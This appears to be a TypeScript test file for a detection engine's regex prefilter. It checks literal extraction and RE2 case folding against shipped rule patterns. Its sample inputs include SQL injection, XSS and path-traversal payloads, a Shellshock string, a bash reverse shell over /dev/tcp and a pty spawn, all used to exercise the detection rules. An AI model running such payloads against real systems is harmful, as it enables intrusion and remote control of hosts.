import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { createRequire } from 'node:module';
import { describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { parse as parseYaml } from 'yaml';
import { compileRegexSet } from './regex.js';
import { literalPrefilter, requiredLiterals } from './regex-literals.js';

const RE2 = createRequire(import.meta.url)('re2') as typeof import('re2');
const texts = (p: string) => requiredLiterals(p)?.texts;

describe('required literals of a pattern', () => {
  test('a run of literal chars, the longest of several, escapes as chars', () => {
    assert.deepEqual(texts('password'), ['password']);
    assert.deepEqual(texts('ab.*wxyz[0-9]+cde'), ['wxyz']);
    assert.deepEqual(texts('mysql\\.user'), ['mysql.user']);
    assert.deepEqual(requiredLiterals('(?i)\\bSELECT\\b'), { texts: ['select'], ignoreCase: true });
  });

  test('alternations give one text per branch; a branch without one gives none', () => {
    assert.deepEqual(texts('(?i)\\b(sleep|pg_sleep|benchmark)\\s*\\('), ['sleep', 'pg_sleep', 'benchmark']);
    assert.deepEqual(texts('nikto|masscan'), ['nikto', 'masscan']);
    assert.equal(texts('nikto|\\d+'), undefined);
    assert.equal(texts('abc|'), undefined);
  });

  test('optional parts require nothing; repeated ones at least once do', () => {
    assert.deepEqual(texts('passwords?'), ['password']);
    assert.equal(texts('(abc)?'), undefined);
    assert.equal(texts('(abc)*'), undefined);
    assert.equal(texts('(abc){0,2}'), undefined);
    assert.deepEqual(texts('(abc)+'), ['abc']);
    assert.deepEqual(texts('(abc){2}x'), ['abc']);
    assert.deepEqual(texts('x(?:login|logon)y'), ['login', 'logon']);
  });

  test('ignoring case folds as RE2 does: ſ is an s, K (Kelvin) a k', () => {
    for (const [p, s] of [['(?i)password', 'PAſſWORD'], ['(?i)nikto', 'NI\u212aTO'], ['(?i)select', 'SeLeCt']] as const) {
      assert.equal(new RE2(p, 'u').test(Buffer.from(s) as unknown as string), true, `RE2 ${p} on ${s}`);
      assert.equal(literalPrefilter([p])!(s), true, `prefilter ${p} on ${s}`);
    }
    assert.equal(literalPrefilter(['password'])!('PASSWORD'), false, 'case kept without (?i)');
  });

  test('texts shorter than three chars, and anything not understood, mean no prefilter', () => {
    assert.equal(texts('ab'), undefined);
    assert.equal(texts('(ab|abcd)'), undefined);
    for (const p of ['(?P<n>abcd)', '(?i:abcd)', '(?U)abcd', 'abc\\x41def', '\\pLabcd', '[[:alpha:]]abcd', '*abcd', 'abcd}', '\\Qabcd\\E', 'abcd\\']) {
      assert.equal(texts(p), undefined, p);
    }
    // A `{` that starts no repeat is a literal, as in RE2.
    assert.deepEqual(texts('a{bc'), ['a{bc']);
  });
});

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../../..');

/** Every regex of the shipped rules: the pattern and agent lists, and inline `regex "..."`. */
function shippedPatterns(): string[] {
  const out: string[] = [];
  for (const f of fs.readdirSync(path.join(ROOT, 'rules')).filter((n) => n.endsWith('.yaml'))) {
    const doc = parseYaml(fs.readFileSync(path.join(ROOT, 'rules', f), 'utf8')) as { lists?: Record<string, unknown>; rules?: Array<{ condition?: unknown }> };
    for (const [name, v] of Object.entries(doc.lists ?? {})) if (Array.isArray(v) && /pattern|agent/.test(name)) out.push(...v.map(String));
    for (const r of doc.rules ?? []) for (const m of String(r.condition ?? '').matchAll(/regex\s+"((?:[^"\\]|\\.)*)"/g)) out.push(m[1]!.replace(/\\\\/g, '\\'));
  }
  return out;
}

describe('the prefilter never changes an answer', () => {
  test('every shipped pattern, against attack strings, their case and Unicode-fold variants, and plain lines', () => {
    const patterns = shippedPatterns();
    assert.ok(patterns.length > 40, `${patterns.length} patterns found`);
    assert.ok(patterns.filter((p) => requiredLiterals(p) !== undefined).length > 30, 'most shipped patterns get a prefilter');
    const samples = [
      "/search?q=1' UNION ALL SELECT password FROM users--",
      "id=1; DROP TABLE users", "'; exec xp_cmdshell 'dir'", 'sleep(5)', 'BENCHMARK(1000000,MD5(1))',
      '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(document.cookie)',
      '../../../../etc/passwd', '..%c0%af..%c0%afetc/passwd', '/..\\..\\windows/win.ini', 'php://filter/convert',
      '() { :; }; /bin/bash -c "id"', 'sqlmap/1.7.2#stable', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)',
      '/wp-login.php', '/api/v1/login', 'authentication failed for user bob', 'Invalid password for admin',
      'login failed: bad credentials', 'failed to authenticate', 'Access denied for user root',
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", 'apt-get install -y nmap',
      'kube-system', 'INFO worker 3 processed job 17 in 5 ms', '{"level":"info","msg":"request done"}', '',
    ];
    const variants = (s: string) => [s, s.toUpperCase(), s.toLowerCase(), s.replace(/s/g, 'ſ'), s.replace(/S/g, 'ſ'), s.replace(/k/gi, '\u212a'), ` x ${s} y `];
    const inputs = samples.flatMap(variants);
    let matched = 0;
    for (const p of patterns) {
      const pre = literalPrefilter([p]);
      if (pre === undefined) continue;
      // RE2 alone (no prefilter, no memo), as regex.ts runs it: on UTF-8 bytes.
      const re2 = new RE2(p, 'u');
      const compiled = compileRegexSet([p]);
      for (const s of inputs) {
        const truth = re2.test(Buffer.from(s) as unknown as string);
        if (truth) {
          matched += 1;
          assert.equal(pre(s), true, `prefilter of ${p} refused ${JSON.stringify(s)}`);
        }
        assert.equal(compiled(s), truth, `${p} on ${JSON.stringify(s)}`);
      }
    }
    assert.ok(matched > 100, `${matched} matches checked`);
  });
});
